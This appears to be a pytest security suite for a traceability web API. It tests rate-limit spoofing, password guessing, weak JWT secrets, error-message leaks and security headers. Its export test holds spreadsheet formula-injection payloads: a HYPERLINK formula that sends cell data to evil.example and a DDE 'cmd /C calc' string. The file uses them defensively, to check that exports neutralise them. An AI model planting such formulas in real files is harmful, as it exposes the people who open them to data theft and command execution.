"""The public endpoints and sign-in under attack (issue 10, "Rate-limit identity and cache keys" and item 8).

Each attack is a test named after it, against the real API: the app on a copy of the anchored demo
registry with the real InfluxDB and anvil (tests/api_fixtures.py), and, where the proxy handling
matters, `village serve` run by uvicorn as docker-compose.yml runs it, reached through loopback
addresses: 127.0.0.1 plays the TLS-terminating proxy (it appends the client to X-Forwarded-For) and
127.0.0.2 a client that talks to the server directly.
"""

from __future__ import annotations

import csv
import io
import logging
import os
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa
import yaml
from alembic.autogenerate import compare_metadata
from alembic.migration import MigrationContext
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session, SQLModel, select

from analytics.periods import PeriodTooLong, parse_period
from api.app import create_app
from api.canonical import canonical_path
from api.headers import CSP
from api.microcache import cache_key
from api.security import SecretError, jwt_secret
from api.throttle import SignInThrottle
from core.db import get_engine, migrate
from core.services import die_with_parent, free_port, wait_for_port
from core.settings import Settings
from ledger.models import Product
from tests.api_fixtures import BAG, BAG_GTIN, BAG_LOT, PASSWORD, Template, is_problem, make_client, token, world_env

REPO = Path(__file__).resolve().parents[1]
HTML = {"Accept": "text/html"}
RATE = 20  # API_RATE_LIMIT_PER_MIN of the served API


@pytest.fixture(scope="module")
def client(api_template: Template, tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    with make_client(api_template, tmp_path_factory.mktemp("security")) as c:
        yield c


def compose_api_command() -> list[str]:
    """The api service's `village` command line as docker-compose.yml gives it."""
    doc = yaml.safe_load((REPO / "docker-compose.yml").read_text())
    return [str(a) for a in doc["services"]["api"]["command"]]


def serve_argv(command: list[str], port: int) -> list[str]:
    """The compose command with this test's listen address and port."""
    argv = []
    for arg, previous in zip(command, ["", *command[:-1]], strict=True):
        if arg not in ("--host", "--port") and previous not in ("--host", "--port"):
            argv.append(arg)
    return [*argv, "--host", "127.0.0.1", "--port", str(port)]


def run_serve(env: dict[str, str], *args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """`village serve` that is expected to refuse to start (a server that starts runs into the timeout;
    60 s: a refusal comes after the app's imports, slow when parallel test processes share the cores)."""
    try:
        return subprocess.run(
            [sys.executable, "-m", "cli.main", "serve", "--host", "127.0.0.1", "--port", str(free_port()), *args],
            env={**os.environ, **env},
            capture_output=True,
            text=True,
            timeout=timeout,
            preexec_fn=die_with_parent,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"`village serve {' '.join(args)}` started instead of refusing to")


@pytest.fixture(scope="module")
def proxied(api_template: Template, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """`village serve` with the compose file's options (2 workers), its proxy at 127.0.0.1 as the deployer
    names it, and a small public rate limit."""
    folder = tmp_path_factory.mktemp("proxied")
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    env = {
        **os.environ,
        **world_env(api_template, folder, TRACE_BASE_URL=base, API_RATE_LIMIT_PER_MIN=RATE),
        "API_TRUSTED_PROXIES": "127.0.0.1",
        "LOG_LEVEL": "WARNING",
    }
    log = open(folder / "api.log", "wb")  # noqa: SIM115
    proc = subprocess.Popen(
        [sys.executable, "-m", "cli.main", *serve_argv(compose_api_command(), port)],
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
        preexec_fn=die_with_parent,
    )
    try:
        wait_for_port("127.0.0.1", port, timeout=90, proc=proc)
        yield base
    finally:
        proc.terminate()
        proc.wait(15)
        log.close()


def from_address(source: str, keepalive: bool = True) -> httpx.Client:
    """An HTTP client whose connections come from `source` (a loopback address)."""
    limits = httpx.Limits() if keepalive else httpx.Limits(max_keepalive_connections=0)
    return httpx.Client(transport=httpx.HTTPTransport(local_address=source, limits=limits), timeout=30)


# -- rate-limit identity ---------------------------------------------------------------------------
def test_attack_forged_forwarded_for_does_not_evade_rate_limit(proxied: str) -> None:
    """A client behind the proxy sends a new X-Forwarded-For with every request; the proxy appends the
    address it really comes from. The limit follows that address, not the forged one."""
    url = f"{proxied}/api/v1/trace/{BAG}/qr.svg"
    with from_address("127.0.0.1") as proxy:
        answers = [
            proxy.get(url, headers={"X-Forwarded-For": f"10.{i // 250}.{i % 250}.1, 198.51.100.7"})
            for i in range(3 * RATE)
        ]
        statuses = [r.status_code for r in answers]
        assert statuses.count(429) >= RATE - 2, statuses  # per worker at most RATE (plus refill) get through
        limited = next(r for r in answers if r.status_code == 429)
        assert int(limited.headers["retry-after"]) >= 1 and "from your address" in limited.json()["detail"]
        # another client behind the same proxy has its own bucket: the proxy is not everyone's address
        assert proxy.get(url, headers={"X-Forwarded-For": "198.51.100.8"}).status_code == 200


def test_untrusted_peer_cannot_pick_its_address_or_claim_https(proxied: str) -> None:
    url = f"{proxied}/api/v1/trace/{BAG}/qr.svg"
    with from_address("127.0.0.2") as direct:  # not a trusted proxy: its X-Forwarded-* are ignored
        forged = {"X-Forwarded-For": "192.0.2.1", "X-Forwarded-Proto": "https"}
        first = direct.get(url, headers=forged)
        assert first.status_code == 200 and "strict-transport-security" not in first.headers
        statuses = [direct.get(url, headers={"X-Forwarded-For": f"192.0.2.{i % 250}"}).status_code for i in range(60)]
        assert statuses.count(429) >= 60 - 2 * RATE, statuses
    with from_address("127.0.0.1") as proxy:  # the trusted proxy reports https: HSTS
        r = proxy.get(f"{proxied}/healthz", headers={"X-Forwarded-For": "198.51.100.9", "X-Forwarded-Proto": "https"})
        assert r.headers["strict-transport-security"].startswith("max-age=")
        assert "strict-transport-security" not in proxy.get(f"{proxied}/healthz").headers  # plain http: none


def test_head_and_cross_origin_reads_over_the_served_api(proxied: str) -> None:
    """Through uvicorn as deployed: HEAD on the resolver has the GET's headers and no body on the wire; the
    public answers may be read by any origin, the token endpoint may not."""
    uri = f"{proxied}/01/{BAG_GTIN}/10/{BAG_LOT}"
    origin = {"Origin": "https://scanner.example.org"}
    with from_address("127.0.0.3") as c:  # a fresh rate-limit bucket
        get = c.get(uri, headers={"Accept": "application/linkset+json", **origin})
        head = c.head(uri, headers={"Accept": "application/linkset+json", **origin})
        assert get.status_code == head.status_code == 200 and head.content == b""
        assert head.headers["content-length"] == get.headers["content-length"] and get.json()["linkset"]  # gzip: alike
        assert get.headers["access-control-allow-origin"] == head.headers["access-control-allow-origin"] == "*"
        missing = c.head(f"{proxied}/01/{BAG_GTIN}/10/2026-NOPE", headers=origin)
        assert missing.status_code == 404 and missing.content == b""
        login = c.post(f"{proxied}/api/v1/auth/token", data={"username": "x", "password": "y"}, headers=origin)
        assert login.status_code == 401 and "access-control-allow-origin" not in login.headers


def test_attack_trust_every_proxy_refused(tmp_path: Path) -> None:
    assert "*" not in compose_api_command()
    env = {"VILLAGE_DATA_DIR": str(tmp_path), "DATABASE_URL": f"sqlite:///{tmp_path / 'r.db'}"}
    for extra_env, args in (({}, ("--forwarded-allow-ips", "*")), ({"API_TRUSTED_PROXIES": "10.0.0.1, *"}, ())):
        out = run_serve({**env, **extra_env}, "--workers", "1", *args)
        assert out.returncode == 2 and "may not be '*'" in out.stderr, out.stderr[-500:]
    out = run_serve({**env, "API_TRUSTED_PROXIES": "proxy.internal"}, "--workers", "1")
    assert out.returncode == 2 and "API_TRUSTED_PROXIES" in out.stderr


# -- canonical code paths and the micro-cache ------------------------------------------------------
SPELLINGS = ["m35cw3xrd6r", "M35C-W3XR-D6R", "m35c-w3xr-d6r", "M-3-5-C-W-3-X-R-D-6-R", "M35CW3XRD6R-", "m35cw3xrd6r--"]


def test_attack_code_spellings_fill_cache(client: TestClient) -> None:
    cache = client.app.state.trace.responses  # type: ignore[attr-defined]
    # the lot's verification current first (this call waits for it): a page or JSON answered while it
    # is still "checking" is not kept, and one kept when it ends would look like an entry of a spelling
    assert client.get(f"/api/v1/trace/{BAG}/verify").status_code == 200
    cache.clear()
    for spelling in SPELLINGS:
        for path, canonical in (
            (f"/t/{spelling}", f"/t/{BAG}"),
            (f"/api/v1/trace/{spelling}", f"/api/v1/trace/{BAG}"),
            (f"/api/v1/trace/{spelling}/verify", f"/api/v1/trace/{BAG}/verify"),
        ):
            r = client.get(path, headers=HTML, follow_redirects=False)
            assert r.status_code == 301 and r.headers["location"] == canonical, (path, r.status_code)
    assert len(cache) == 0  # no spelling was answered, so none was kept
    assert client.get(f"/t/{BAG}", headers=HTML).status_code == 200
    assert client.get(f"/api/v1/trace/{BAG}").status_code == 200
    held = len(cache)
    assert held <= 2
    for spelling in SPELLINGS:  # followed: each spelling ends on the one cached answer
        assert client.get(f"/t/{spelling}", headers=HTML).status_code == 200
    assert len(cache) == held
    # the query string goes along; a GTIN of 13 digits becomes 14; a malformed code is a 400, not kept
    r = client.get("/t/m35c-w3xr-d6r?lang=en", follow_redirects=False)
    assert r.status_code == 301 and r.headers["location"] == f"/t/{BAG}?lang=en"
    r = client.get(f"/01/{BAG_GTIN[1:]}/10/{BAG_LOT}", follow_redirects=False)
    assert r.status_code == 301 and r.headers["location"] == f"/01/{BAG_GTIN}/10/{BAG_LOT}"
    is_problem(client.get("/t/m35c-w3xr-d6x"), 400, "bad-trace-code")
    assert len(cache) == held


def test_only_canonical_paths_have_cache_keys() -> None:
    def scope(path: str) -> dict:  # type: ignore[type-arg]
        return {"type": "http", "method": "GET", "path": path, "query_string": b"", "headers": []}

    assert cache_key(scope(f"/t/{BAG}")) is not None and cache_key(scope(f"/api/v1/trace/{BAG}")) is not None
    for path in ("/t/m35cw3xrd6r", "/t/M35C-W3XR-D6R", "/api/v1/trace/M35C-W3XR-D6R", f"/01/{BAG_GTIN[1:]}/10/X"):
        assert cache_key(scope(path)) is None, path
    assert canonical_path({**scope("/api/v1/trace/m35c-w3xr-d6r/qr.svg"), "raw_path": None}) == (
        f"/api/v1/trace/{BAG}/qr.svg"
    )
    assert canonical_path(scope(f"/t/{BAG}")) is None and canonical_path(scope("/t/not-a-code")) is None


# -- sign-in throttling ----------------------------------------------------------------------------
def test_attack_password_guessing_throttled(proxied: str) -> None:
    """50 wrong passwords for one account, each from another address and over new connections (both
    workers answer), then the right one: refused too, with Retry-After, until the window ends."""
    url = f"{proxied}/api/v1/auth/token"
    with from_address("127.0.0.1", keepalive=False) as proxy:
        statuses = []
        for i in range(50):
            r = proxy.post(
                url,
                data={"username": "shaling", "password": f"guess-{i}"},
                headers={"X-Forwarded-For": f"203.0.113.{i + 10}"},
            )
            statuses.append(r.status_code)
        assert statuses[:10] == [401] * 10 and set(statuses[10:]) == {429}, statuses
        right = proxy.post(url, data={"username": "shaling", "password": PASSWORD})
        body = is_problem(right, 429, "sign-in-throttled")
        assert 1 <= int(right.headers["retry-after"]) <= 900 and "retry in" in body["detail"]
        # the dashboard's form shares the count: the form again, 429, nobody signed in
        form = proxy.post(
            f"{proxied}/dashboard/login", data={"username": "shaling", "password": PASSWORD}, follow_redirects=False
        )
        assert form.status_code == 429 and "retry-after" in form.headers and "set-cookie" not in form.headers
        # another account is not locked by this one
        assert proxy.post(url, data={"username": "analyst", "password": PASSWORD}).status_code == 200


def test_attack_password_spraying_from_one_address_throttled(proxied: str) -> None:
    """One address tries one password on many accounts: after 30 failures it is turned away."""
    url = f"{proxied}/api/v1/auth/token"
    with from_address("127.0.0.1") as proxy:
        xff = {"X-Forwarded-For": "198.51.100.66"}
        statuses = [
            proxy.post(url, data={"username": f"user{i}", "password": "123456"}, headers=xff).status_code
            for i in range(40)
        ]
        assert statuses[:30] == [401] * 30 and set(statuses[30:]) == {429}, statuses
        assert proxy.post(url, data={"username": "county", "password": PASSWORD}, headers=xff).status_code == 429
        other = {"X-Forwarded-For": "198.51.100.67"}
        assert proxy.post(url, data={"username": "county", "password": PASSWORD}, headers=other).status_code == 200


def test_sign_in_counts_are_shared_between_workers(api_template: Template, tmp_path: Path) -> None:
    """Two app instances on one registry (as two uvicorn workers): failures add up across them, and a
    right password clears the account's count."""
    with (
        make_client(api_template, tmp_path, API_LOGIN_MAX_FAILURES=4) as a,
        TestClient(create_app(a.app.state.settings)) as b,  # type: ignore[attr-defined]
    ):
        for i in range(4):
            assert (a if i % 2 else b).post(
                "/api/v1/auth/token", data={"username": "county", "password": "x"}
            ).status_code == 401
        assert a.post("/api/v1/auth/token", data={"username": "county", "password": PASSWORD}).status_code == 429
        assert b.post("/api/v1/auth/token", data={"username": "county", "password": PASSWORD}).status_code == 429
        token(a, "analyst")
        for _ in range(3):
            assert b.post("/api/v1/auth/token", data={"username": "analyst", "password": "x"}).status_code == 401
        token(a, "analyst")  # a right password: the count starts afresh
        for _ in range(3):
            assert b.post("/api/v1/auth/token", data={"username": "analyst", "password": "x"}).status_code == 401
        token(a, "analyst")


def test_sign_in_window_ends(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'r.db'}"
    migrate(url)
    throttle = SignInThrottle(get_engine(url), max_per_account=2, max_per_address=5, window_s=60)
    assert [throttle.attempt("county", "192.0.2.1", now=t).retry_after for t in (0, 1, 2)] == [0, 0, 58]
    assert throttle.attempt("county", "192.0.2.2", now=59.5).retry_after == 1  # another address: same account
    assert throttle.attempt("county", "192.0.2.1", now=60.5).retry_after == 0  # a new window
    ok = throttle.attempt("nobody", "192.0.2.3", now=61)
    throttle.succeeded(ok)  # the address gets its attempt back
    for t in range(5):
        assert throttle.attempt(f"user{t}", "192.0.2.3", now=62 + t).retry_after == 0
    assert throttle.attempt("user9", "192.0.2.3", now=70).retry_after == 60 - 9


# -- the token signing secret ----------------------------------------------------------------------
def test_attack_short_jwt_secret_refused(tmp_path: Path) -> None:
    env = {"VILLAGE_DATA_DIR": str(tmp_path), "DATABASE_URL": f"sqlite:///{tmp_path / 'r.db'}"}
    for content in ("", "\n", "password", "x" * 31):
        secret = tmp_path / "api_jwt_secret"
        secret.write_text(content)
        out = run_serve({**env, "API_JWT_SECRET_FILE": str(secret)}, "--workers", "1")
        assert out.returncode == 2 and "at least 32 bytes" in out.stderr, (content, out.stderr[-500:])
    for value in ("short", "y" * 31):
        with pytest.raises(SecretError, match="at least 32 bytes"):
            create_app(Settings(_env_file=None, API_JWT_SECRET=value, **_db(tmp_path)))  # type: ignore[arg-type]
    # a generated secret file left empty (a crash while writing it, before this was atomic): refused
    generated = tmp_path / "secrets" / "api_jwt_secret"
    generated.parent.mkdir()
    generated.write_text("")
    with pytest.raises(SecretError, match="delete it"):
        jwt_secret(Settings(_env_file=None, **_db(tmp_path)))  # type: ignore[arg-type]
    assert len(jwt_secret(Settings(_env_file=None, API_JWT_SECRET="z" * 32, **_db(tmp_path)))) == 32  # type: ignore[arg-type]


def _db(folder: Path) -> dict[str, str]:
    return {"VILLAGE_DATA_DIR": str(folder), "DATABASE_URL": f"sqlite:///{folder / 'r.db'}"}


SECRET_OF = """
import sys, time
from api.security import jwt_secret
from core.settings import Settings
start = float(sys.argv[2])
while time.time() < start:
    pass
print(jwt_secret(Settings(_env_file=None, VILLAGE_DATA_DIR=sys.argv[1])))
"""


def test_generated_jwt_secret_is_made_atomically(tmp_path: Path) -> None:
    """Workers starting at the same moment all read one complete secret; the file is 0600."""
    for run in range(2):
        folder = tmp_path / f"run{run}"
        start = time.time() + 4
        procs = [
            subprocess.Popen(
                [sys.executable, "-c", SECRET_OF, str(folder), str(start)], stdout=subprocess.PIPE, text=True
            )
            for _ in range(8)
        ]
        secrets = [p.communicate(timeout=60)[0].strip() for p in procs]
        assert all(p.returncode == 0 for p in procs)
        assert len(set(secrets)) == 1 and len(secrets[0]) >= 32, secrets
        path = folder / "secrets" / "api_jwt_secret"
        assert path.stat().st_mode & 0o777 == 0o600 and path.read_text().strip() == secrets[0]
        assert [p.name for p in path.parent.iterdir()] == ["api_jwt_secret"]  # no temporary file left


# -- reporting periods -----------------------------------------------------------------------------
def test_attack_period_of_centuries(client: TestClient) -> None:
    h = token(client, "analyst")
    for period in ("2025-01-01..2026-01-02", "1690-01-01..2026-12-31"):
        started = time.monotonic()
        for path in ("/api/v1/dashboard", "/api/v1/dashboard/indicators", "/api/v1/dashboard/export.xlsx"):
            body = is_problem(client.get(path, params={"period": period}, headers=h), 422, "period-too-long")
            assert "366 days" in body["detail"] and body["max_days"] == 366
        assert time.monotonic() - started < 10
    r = client.get("/api/v1/dashboard/export.csv", params={"period": "1690-01-01..2026-12-31"}, headers=h)
    is_problem(r, 422, "period-too-long")
    q = {"village": "211122101201", "start": "2025-01-01T00:00:00+08:00", "end": "2026-01-03T00:00:00+08:00"}
    body = is_problem(client.get("/api/v1/timeseries", params={**q, "resolution": "1d"}, headers=h), 422)
    assert "366 days" in body["detail"]
    # the page says it too; a year (leap or not) is still a period
    client.post("/dashboard/login", data={"username": "analyst", "password": PASSWORD}, follow_redirects=False)
    page = client.get("/dashboard", params={"period": "1690-01-01..2026-12-31"}, headers=HTML)
    assert page.status_code == 422 and "366" in page.text
    client.cookies.clear()
    for period in ("0001-01", "0001-01-01..0001-02-01", "9999-W52"):  # no date arithmetic out of range: a 422
        is_problem(client.get("/api/v1/dashboard/indicators", params={"period": period}, headers=h), 422)
    assert parse_period("2024", max_days=366).days == 366
    with pytest.raises(PeriodTooLong):
        parse_period("2024-01-01..2025-01-01", max_days=366)
    assert parse_period("1690-01-01..2026-12-31").days > 100_000  # the CLI still reads long periods


# -- exports ---------------------------------------------------------------------------------------
FORMULAS = {
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")': "name_zh",
    "@SUM(1+1)*cmd|' /C calc'!A0": "name_en",
}


def test_attack_formula_injection_in_exports(client: TestClient) -> None:
    h = token(client, "county")
    shown = [p["product"] for p in client.get("/api/v1/dashboard/traceability", headers=h).json()["by_product"]]
    engine = client.app.state.engine  # type: ignore[attr-defined]
    with Session(engine) as session:  # operator-entered names, as a registry import or the admin API stores them
        first, second = (session.exec(select(Product).where(Product.code == code)).one() for code in shown[:2])
        first.name_zh, first.name_en = list(FORMULAS)
        second.name_zh, second.name_en = "-2+3", "+1-1"
        session.add_all([first, second])
        session.commit()
    client.app.state.dashboard.clear()  # type: ignore[attr-defined]  # (as a write through the admin API does)
    text = client.get("/api/v1/dashboard/export.csv?section=traceability", headers=h).content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    for value in (*FORMULAS, "-2+3", "+1-1"):
        assert value not in cells and "'" + value in cells, value
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    # numbers stay numbers: indicator values and changes (negative ones too) are written as they are
    text = client.get("/api/v1/dashboard/export.csv?section=indicators&period=2026-07", headers=h).content
    rows = list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"))))
    numbers = [r[k] for r in rows for k in ("value", "previous", "change") if r[k]]
    assert numbers and all(isinstance(float(n), float) for n in numbers)
    x = client.get("/api/v1/dashboard/export.xlsx?period=2026-07", headers=h).content
    with zipfile.ZipFile(io.BytesIO(x)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula anywhere
    ws = load_workbook(io.BytesIO(x))["traceability"]
    cells_x = [c for row in ws.iter_rows(min_row=2) for c in row]
    for value in (*FORMULAS, "-2+3", "+1-1"):
        cell = next(c for c in cells_x if c.value == value)
        assert cell.data_type == "s" and cell.quotePrefix, value
    assert [c for c in cells_x if isinstance(c.value, int | float) and c.data_type == "n"]


# -- problem details -------------------------------------------------------------------------------
INFLUX_SECRET_URL = "http://127.0.0.1:9/influx-internal-7f3a"
RPC_SECRET_URL = "http://127.0.0.1:9/rpc-internal-7f3a"


def test_attack_problem_leaks_internal_url(api_template: Template, tmp_path: Path, caplog) -> None:  # type: ignore[no-untyped-def]
    with make_client(api_template, tmp_path, INFLUX_URL=INFLUX_SECRET_URL, CHAIN_RPC_URL=RPC_SECRET_URL) as c:
        h = token(c, "county")
        answers = [
            c.get(
                "/api/v1/timeseries?plot=211122101201-001&start=2026-07-01T00:00:00%2B08:00"
                "&end=2026-07-02T00:00:00%2B08:00",
                headers=h,
            ),
            c.get(f"/api/v1/trace/{BAG}/proof"),
            c.get("/api/v1/auth/me", headers={"Authorization": "Bearer not.a.token"}),
        ]
        for r in answers:
            assert r.status_code in (401, 503), (r.status_code, r.text[:300])
            is_problem(r, r.status_code)
            for secret in ("127.0.0.1:9", "internal-7f3a", "Error", "Exception", "Traceback"):
                assert secret not in r.text, (secret, r.text)
        body = answers[0].json()
        assert body["error_id"] in body["detail"] and answers[0].headers["retry-after"] == "30"

        def boom() -> None:
            raise RuntimeError(f"cannot reach {RPC_SECRET_URL} as village:s3cret")

        c.app.add_api_route("/api/v1/boom", boom)  # type: ignore[attr-defined]
        caplog.set_level(logging.ERROR)
        r = TestClient(c.app, raise_server_exceptions=False).get("/api/v1/boom")  # type: ignore[arg-type]
        body = is_problem(r, 500)
        assert "s3cret" not in r.text and "internal-7f3a" not in r.text and "RuntimeError" not in r.text
        assert body["error_id"] in body["detail"] and body["error_id"] in caplog.text and "s3cret" in caplog.text
        assert r.headers["content-security-policy"] == CSP  # the 500 carries the security headers too


# -- security headers ------------------------------------------------------------------------------
def test_security_headers_on_every_response(client: TestClient) -> None:
    paths = [
        "/",
        f"/t/{BAG}",
        f"/t/{BAG}",  # a replay from the micro-cache
        f"/api/v1/trace/{BAG}",
        f"/api/v1/trace/{BAG}/qr.png",
        "/t/m35c-w3xr-d6r",  # a redirect
        "/t/M35C-W3XR-D6X",  # a 400
        "/nowhere",  # a 404
        "/dashboard/login",
        "/static/style.css",
        "/api/v1/docs",
        "/api/v1/docs/assets/swagger-ui-bundle.js",
        "/api/v1/openapi.json",
    ]
    for path in paths:
        r = client.get(path, headers=HTML, follow_redirects=False)
        assert r.headers["content-security-policy"] == CSP, path
        assert r.headers["x-content-type-options"] == "nosniff" and r.headers["x-frame-options"] == "DENY", path
        assert r.headers["referrer-policy"] == "same-origin" and "strict-transport-security" not in r.headers, path
    assert "frame-ancestors 'none'" in CSP and "unsafe-inline" not in CSP and "script-src 'self'" in CSP
    https = TestClient(client.app, base_url="https://trace.example.cn")  # type: ignore[arg-type]
    assert https.get("/healthz").headers["strict-transport-security"] == "max-age=31536000"
    docs = client.get("/api/v1/docs").text
    assert "<script>" not in docs and "cdn" not in docs.lower() and "/api/v1/docs/assets/swagger-ui-bundle.js" in docs
    for template in (REPO / "api" / "templates").glob("*.html"):  # nothing inline that the CSP would block
        html = template.read_text()
        assert "<script>" not in html and " style=" not in html and " onclick=" not in html, template.name


def test_migration_0009_creates_the_throttle_table(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'm.db'}"
    migrate(url)
    engine = get_engine(url)
    with engine.connect() as conn:
        assert "api_login_throttle" in sa.inspect(conn).get_table_names()
        diffs = compare_metadata(MigrationContext.configure(conn), SQLModel.metadata)
    assert [d for d in diffs if "api_login_throttle" in str(d)] == []
